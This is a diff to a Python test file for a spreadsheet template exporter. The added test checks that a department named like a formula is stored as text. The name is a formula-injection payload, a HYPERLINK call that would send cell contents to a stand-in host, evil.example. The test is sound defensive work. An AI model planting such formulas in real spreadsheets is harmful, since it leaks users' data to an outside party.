@@ -163,6 +163,14 @@ def test_template_is_a_workbook_the_importer_accepts(office):
     assert "区政府办公室/法制科" in notes  # the existing departments are listed
 
 
+def test_template_lists_a_department_named_like_a_formula_as_text(ctx, make_department):
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"法制科")'
+    make_department(name)
+    notes = load_workbook(io.BytesIO(importing.template_workbook())).worksheets[1]
+    cells = [cell for (cell,) in notes.iter_rows(max_col=1) if cell.value == name]
+    assert len(cells) == 1 and cells[0].data_type == "s"  # a string, not a formula ("f")
+
+
 def test_phone_and_name_length_are_checked_at_preview(office):
     data = xlsx_bytes([["longname", "长" * 65, "", "", "", "initial-pass"],
                        ["badphone", "某", "", "", "138 0000 转 1234", "initial-pass"]])
